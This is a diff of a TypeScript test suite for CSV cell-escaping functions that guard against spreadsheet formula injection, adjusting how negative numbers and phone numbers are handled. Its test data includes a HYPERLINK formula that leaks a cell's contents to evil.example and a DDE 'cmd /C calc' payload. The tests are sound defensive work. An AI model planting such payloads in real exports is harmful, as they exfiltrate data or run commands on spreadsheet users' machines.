@@ -6,13 +6,26 @@ describe('escapeCsvCell', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
     ['+1+1', "'+1+1"],
-    ['-2', "'-2"],
+    ['-2', '-2'],
+    ['+1.5', '+1.5'],
+    ['-.5', '-.5'],
+    ['-2-2', "'-2-2"],
+    ['-1e5', "'-1e5"],
     ['@x', "'@x"],
     ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\tabc', "'\tabc"],
     ['\rabc', "'\rabc"],
     ['\uFF1D1+1', "'\uFF1D1+1"],
-    ['+4930123456', "'+4930123456"],
+    // E.164 phone numbers export as they are: a spreadsheet reads them as values, never as formulas.
+    ['+4930123456', '+4930123456'],
+    ['+4915112345678', '+4915112345678'],
+    ['+4915112345678+1', "'+4915112345678+1"],
+    ['+0123456', '+0123456'], // not E.164, but a plain number
+    ['+1234567890123456', '+1234567890123456'], // too long for E.164, but a plain number
+    ['+49 151 1234', "'+49 151 1234"],
+    ['\t+4915112345678', "'\t+4915112345678"],
+    ['-', "'-"],
+    ['+', "'+"],
     ['Anna', 'Anna'],
     ['a=b', 'a=b'],
     [' =1+1', ' =1+1'],
@@ -26,7 +39,8 @@ describe('escapeCsvCell', () => {
     [null, ''],
     [undefined, ''],
     [131026, '131026'],
-    [-2, "'-2"],
+    [-2, '-2'],
+    [-2.5, '-2.5'],
     [12n, '12'],
   ])('non-string %p → %j', (input, expected) => {
     expect(escapeCsvCell(input)).toBe(expected);
@@ -61,7 +75,7 @@ describe('quoteCsvCell', () => {
 describe('csvLine', () => {
   const rows: Array<Array<string | number | null>> = [
     ['+4915112345678', 'failed', null, 131026, 'Message undeliverable', '2026-05-01T10:00:00.000Z'],
-    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2', '@x', '\tTab', '\rCR'],
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2-2', '@x', '\tTab', '\rCR'],
     ['Zoë, "the boss"', 'Line\nbreak', '', null, 'a""b', ',,,'],
     [' =not a formula', 'x=y', '1-2', 'mail@example.com', '—', '😀'],
   ];
